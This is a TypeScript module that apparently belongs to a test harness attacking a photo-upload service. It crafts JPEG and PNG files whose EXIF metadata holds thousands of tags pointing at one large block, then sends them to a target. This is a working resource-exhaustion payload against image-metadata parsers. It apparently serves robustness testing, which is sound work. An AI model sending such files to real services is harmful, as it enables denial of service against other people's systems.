// A player's photos whose metadata names the same block thousands of times: a reader that follows each tag reads the
// block as often.
import zlib from 'node:zlib';
import sharp from 'sharp';
import { type Attack, createTally, timeoutSignal } from './attack.ts';
import { SQUARES, sendPhoto } from './send.ts';

const ASCII = { type: 2, size: 1 };
const SHORT = { type: 3, size: 2 };

/** A TIFF header, one directory of `tags` entries, and the block that all of them point at. */
function tiffOf(tags: number, { type, size }: typeof ASCII, blockBytes: number): Buffer {
  const header = Buffer.from('II*\0\x08\0\0\0', 'latin1');
  const directory = Buffer.alloc(2 + tags * 12 + 4);
  directory.writeUInt16LE(tags, 0);
  const block = header.length + directory.length;
  for (let i = 0; i < tags; i++) {
    const at = 2 + i * 12;
    directory.writeUInt16LE((0x1000 + i) & 0xffff, at);
    directory.writeUInt16LE(type, at + 2);
    directory.writeUInt32LE(Math.floor(blockBytes / size), at + 4);
    directory.writeUInt32LE(block, at + 8);
  }
  return Buffer.concat([header, directory, Buffer.alloc(blockBytes, 'A')]);
}

/** Each of another colour, since the same bytes are the same photo. */
const picture = (shade: number) =>
  sharp({ create: { width: 400, height: 300, channels: 3, background: { r: shade, g: 9, b: 9 } } });

async function jpegWith(tiff: Buffer, shade: number): Promise<Buffer> {
  const bare = await picture(shade).jpeg().toBuffer();
  const segment = Buffer.concat([Buffer.from('\xff\xe1\0\0Exif\0\0', 'latin1'), tiff]);
  segment.writeUInt16BE(segment.length - 2, 2);
  return Buffer.concat([bare.subarray(0, 2), segment, bare.subarray(2)]);
}

/** Signature and the IHDR chunk, after which others may stand. */
const PNG_START = 33;

async function pngWith(tiff: Buffer, shade: number): Promise<Buffer> {
  const bare = await picture(shade).png().toBuffer();
  const body = Buffer.concat([Buffer.from('eXIf'), tiff]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(tiff.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([bare.subarray(0, PNG_START), length, body, sum, bare.subarray(PNG_START)]);
}

/** PNG's checksum, which gzip uses too: it stands before the last four bytes. Node 20.19 has none of its own. */
function crc32(bytes: Buffer): number {
  const packed = zlib.gzipSync(bytes, { level: 1 });
  return packed.readUInt32LE(packed.length - 8);
}

/** Largest APP1 segment of a JPEG is 64 kB, its length and name included. */
const JPEG_BLOCK = 65_500 - 5000 * 12;
const PNG_BLOCK = 1_900_000;

function photoOf(i: number): Promise<Buffer> {
  switch (i % 4) {
    case 0:
      return jpegWith(tiffOf(5000, ASCII, JPEG_BLOCK), i);
    case 1:
      return jpegWith(tiffOf(5000, SHORT, JPEG_BLOCK), i);
    case 2:
      return pngWith(tiffOf(1000, SHORT, PNG_BLOCK), i);
    default:
      return pngWith(tiffOf(5000, SHORT, PNG_BLOCK), i);
  }
}

export const hostileExif: Attack = {
  name: 'hostile-exif',
  title: 'photos with thousands of EXIF tags on one block',
  async prepare(target) {
    const photos = await Promise.all(SQUARES.map((_, i) => photoOf(i)));
    return async (signal) => {
      const tally = createTally();
      let sent = 0;
      for (const [i, bytes] of photos.entries()) {
        if (signal.aborted) break;
        tally.add(await sendPhoto(target, SQUARES[i] ?? 0, bytes, timeoutSignal()));
        sent++;
      }
      return { answers: tally.answers, figures: { sent } };
    };
  },
};
